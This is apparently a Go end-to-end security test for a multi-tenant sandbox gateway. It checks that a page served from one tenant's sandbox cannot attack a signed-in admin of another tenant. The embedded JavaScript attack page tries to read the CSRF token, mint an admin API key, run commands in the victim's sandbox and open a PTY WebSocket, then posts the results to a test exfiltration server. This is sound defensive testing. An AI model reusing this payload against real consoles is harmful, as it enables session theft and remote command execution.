package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// Issue 13, item 1: a page a sandbox of tenant B serves, opened in Chromium by a signed-in
// tenant-A admin, must achieve nothing: no session read, no key minted for A, no command
// run in A's sandbox, nothing of A's sent out. It is run in both preview modes; in host
// mode the page, refused everywhere across origins, bounces itself to the path-mode URL
// of its own preview, which on the old gateway put it in the console's origin.

// attackPage is the attacker's page. It reports what it got to an exfiltration server the
// test runs on loopback, so a page that achieved nothing still proves it ran.
const attackPage = `<!doctype html><html><head><title>attack</title></head><body><p id=out>waiting</p>
<script>
const cfg = CONFIG;
const report = {where: location.host, origin: self.origin, steps: {}};
async function step(name, fn) {
  try { report.steps[name] = await fn(); } catch (e) { report.steps[name] = 'error: ' + e; }
}
async function call(method, url, headers, body) {
  const r = await fetch(url, {method, credentials: 'include', headers: Object.assign({'Content-Type': 'application/json'}, headers || {}), body: body ? JSON.stringify(body) : undefined});
  return {status: r.status, body: (await r.text()).slice(0, 2000)};
}
(async () => {
  const onGateway = location.host === new URL(cfg.gateway).host;
  const g = onGateway ? '' : cfg.gateway;
  let csrf = '';
  await step('session', async () => {
    const r = await call('GET', g + '/v1/session');
    try { csrf = JSON.parse(r.body).csrfToken || ''; } catch (e) {}
    return r;
  });
  const h = {'X-CSRF-Token': csrf};
  let key = '';
  await step('mint', async () => {
    const r = await call('POST', g + '/v1/tenants/' + cfg.tenant + '/keys', h, {role: 'tenant-admin'});
    try { key = JSON.parse(r.body).key || ''; } catch (e) {}
    return r;
  });
  for (const [name, path] of [['command-v1', '/v1/sandboxes/' + cfg.sandbox + '/proxy/44772/command'],
                              ['command', '/sandboxes/' + cfg.sandbox + '/proxy/44772/command'],
                              ['command-console', '/v1/console/sandboxes/' + cfg.sandbox + '/ports/44772/command']]) {
    await step(name, () => call('POST', g + path, h, {command: 'echo ' + name + ' >> /tmp/pwned'}));
  }
  if (key) {
    await step('command-with-key', () => call('POST', g + '/v1/sandboxes/' + cfg.sandbox + '/proxy/44772/command', {'OPEN-SANDBOX-API-KEY': key}, {command: 'echo with-key >> /tmp/pwned'}));
  }
  await step('pty-socket', () => new Promise((resolve) => {
    const base = onGateway ? 'ws://' + location.host : cfg.gateway.replace(/^http/, 'ws');
    const ws = new WebSocket(base + '/v1/console/sandboxes/' + cfg.sandbox + '/ports/44772/pty/x/ws');
    ws.onopen = () => { resolve('open'); ws.close(); };
    ws.onerror = () => resolve('refused');
  }));
  report.csrf = csrf;
  report.key = key;
  await fetch(cfg.exfil + '/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)});
  document.getElementById('out').textContent = 'done';
  if (!onGateway && cfg.bounce) location.href = cfg.bounce;
})();
</script></body></html>`

// exfilServer records what pages send it.
type exfilServer struct {
	*httptest.Server
	mu      sync.Mutex
	reports []map[string]any
	raw     []string
}

func startExfil(t *testing.T) *exfilServer {
	x := &exfilServer{}
	x.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		x.mu.Lock()
		defer x.mu.Unlock()
		x.raw = append(x.raw, r.URL.String()+" "+string(b))
		var m map[string]any
		if json.Unmarshal(b, &m) == nil {
			x.reports = append(x.reports, m)
		}
	}))
	t.Cleanup(x.Close)
	return x
}

func (x *exfilServer) got() ([]map[string]any, string) {
	x.mu.Lock()
	defer x.mu.Unlock()
	return append([]map[string]any(nil), x.reports...), strings.Join(x.raw, "\n")
}

// previewBrowser is a console browser whose resolver maps the preview domain to loopback,
// so that no name is looked up anywhere.
func previewBrowser(t *testing.T, base, previewDomain string) *consoleBrowser {
	t.Helper()
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatalf("chromium is not installed (make deps installs it): %v", err)
	}
	return newConsoleBrowser(t, chromium, base, chromedp.Flag("host-resolver-rules", "MAP *."+previewDomain+" 127.0.0.1"))
}

// navigate opens url in the tab as a user following a link would.
func (b *consoleBrowser) navigate(t *testing.T, url string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
	defer cancel()
	_ = chromedp.Do(ctx, chromedp.Navigate(url))
}

// startStaticServer serves dir of a sandbox on port with Python's http.server.
func startStaticServer(t *testing.T, g *gateway, id, dir string, port int) {
	t.Helper()
	body, _ := json.Marshal(map[string]any{"command": fmt.Sprintf("python3 -m http.server %d --directory %s", port, dir), "background": true})
	resp := g.agent(id).request("POST", "/command", bytes.NewReader(body), "application/json")
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	waitFor(t, 20*time.Second, func() bool {
		return g.do("GET", fmt.Sprintf("/sandboxes/%s/proxy/%d/", id, port), nil).Status == 200
	}, "the sandbox's static server to answer")
}

func TestPreviewOriginAttack(t *testing.T) {
	const previewDomain = "sandgate-previews.test"
	e := newEnv(t, startRedis(t), "SANDGATE_PREVIEW_DOMAIN="+previewDomain)
	g := e.startGateway()
	gatewayOrigin := "http://" + g.Addr
	_, gwPort, _ := strings.Cut(g.Addr, ":")

	tenantA, tenantB := g.createTenant("victim", nil), g.createTenant("attacker", nil)
	_, adminA := g.issueKey(tenantA, "tenant-admin")
	_, adminB := g.issueKey(tenantB, "tenant-admin")
	gA, gB := g.asKey(adminA), g.asKey(adminB)
	sandboxA := gA.createSandbox(map[string]any{})
	sandboxB := gB.createSandbox(map[string]any{})
	startPreviewServer(t, gB, sandboxB) // the legitimate preview: HTML, JS, WebSocket on 8000
	const attackPort = 8100
	keysOfA := func() int {
		r := g.do("GET", "/v1/tenants/"+tenantA+"/keys", nil)
		if r.Status != 200 {
			t.Fatalf("list A's keys: %d %s", r.Status, r.Body)
		}
		return len(r.JSON(t)["items"].([]any))
	}
	keysBefore := keysOfA()
	pwned := func() string {
		return stdoutOf(gA.agent(sandboxA).run("cat /tmp/pwned 2>/dev/null; true"))
	}

	exfil := startExfil(t)
	// B's signed links (B may make them for its own sandbox) to the attack page in each
	// mode: the token is bound to sandbox and port, not to the mode.
	link := func(port int) (host, path string) {
		_, _, l := gB.endpoint(sandboxB, port, fmt.Sprintf("?expires=%d", time.Now().Add(10*time.Minute).Unix()))
		u, err := url.Parse(l)
		if err != nil || u.Query().Get("sandgate_token") == "" {
			t.Fatalf("signed link %q", l)
		}
		return "http://" + u.Host + u.RequestURI(),
			fmt.Sprintf("%s/sandboxes/%s/proxy/%d/?sandgate_token=%s", gatewayOrigin, sandboxB, port, url.QueryEscape(u.Query().Get("sandgate_token")))
	}
	hostLink, pathLink := link(attackPort)
	cfg, _ := json.Marshal(map[string]string{"gateway": gatewayOrigin, "tenant": tenantA, "sandbox": sandboxA, "exfil": exfil.URL, "bounce": pathLink})
	uploadFile(t, gB.agent(sandboxB), "/opt/attack/index.html", []byte(strings.Replace(attackPage, "CONFIG", string(cfg), 1)))
	startStaticServer(t, gB, sandboxB, "/opt/attack", attackPort)

	b := previewBrowser(t, gatewayOrigin, previewDomain)
	b.signIn(t, adminA, "tenant-admin")
	csrfA := b.evalAsync(t, `fetch("/v1/session").then(r => r.json()).then(s => s.csrfToken)`)
	if len(csrfA) < 16 {
		t.Fatalf("the victim's console has no session: %q", csrfA)
	}

	for _, mode := range []struct {
		name, url string
		reports   int // the host-mode page reports once from its host, once after the bounce
	}{
		{"path", pathLink, 1},
		{"host", hostLink, 2},
	} {
		t.Run(mode.name+" mode", func(t *testing.T) {
			before, _ := exfil.got()
			b.navigate(t, mode.url)
			var reports []map[string]any
			var raw string
			waitFor(t, 60*time.Second, func() bool {
				all, r := exfil.got()
				reports, raw = all[len(before):], r
				return len(reports) >= mode.reports
			}, fmt.Sprintf("%d report(s) of the attack page", mode.reports))
			for _, rep := range reports {
				t.Logf("the attack page at %v (origin %v) got: %v", rep["where"], rep["origin"], rep["steps"])
			}
			if strings.Contains(raw, csrfA) {
				t.Errorf("the victim's CSRF token was sent out")
			}
			if strings.Contains(raw, `"key":"sg`) || strings.Contains(raw, adminA) {
				t.Errorf("an API key was sent out")
			}
			for _, rep := range reports {
				steps, _ := rep["steps"].(map[string]any)
				for name, v := range steps {
					res, _ := v.(map[string]any)
					if st, _ := res["status"].(float64); st >= 200 && st < 300 {
						t.Errorf("the page at %v got %s through: %v", rep["where"], name, res)
					}
				}
				if steps["pty-socket"] == "open" {
					t.Errorf("the page at %v opened the PTY WebSocket", rep["where"])
				}
			}
			if n := keysOfA(); n != keysBefore {
				t.Errorf("tenant A has %d keys, had %d: one was minted", n, keysBefore)
			}
			if out := pwned(); out != "" {
				t.Errorf("a command ran in A's sandbox: %q", out)
			}
		})
	}

	// The console still works after all this, and a legitimate preview too.
	t.Run("the console is still signed in", func(t *testing.T) {
		b.open(t, "#/sandboxes")
		b.waitFor(t, 20*time.Second, "A's sandbox in the list", fmt.Sprintf(`document.body.innerText.includes(%q)`, sandboxA[:8]))
	})
	t.Run("a legitimate preview: HTML, JS and WebSocket in host mode", func(t *testing.T) {
		host, _ := link(previewPort)
		if !strings.Contains(host, "."+previewDomain+":"+gwPort) {
			t.Fatalf("host-mode link %q", host)
		}
		b.navigate(t, host)
		b.waitFor(t, 30*time.Second, "the page's WebSocket echo", `document.querySelector("#out").textContent === "echo:ping"`)
		if o := b.eval(t, `self.origin`); o != "http://"+strings.ToLower(sandboxB)+"-8000."+previewDomain+":"+gwPort {
			t.Fatalf("the preview's origin = %q", o)
		}
	})
	t.Run("a legitimate preview in path mode: HTML, JS and WebSocket as an opaque origin", func(t *testing.T) {
		_, path := link(previewPort)
		b.navigate(t, path)
		b.waitFor(t, 30*time.Second, "the page's WebSocket echo", `document.querySelector("#out").textContent === "echo:ping"`)
		if o := b.eval(t, `self.origin`); o != "null" {
			t.Fatalf("a path-mode preview runs in origin %q, want an opaque one", o)
		}
	})
}
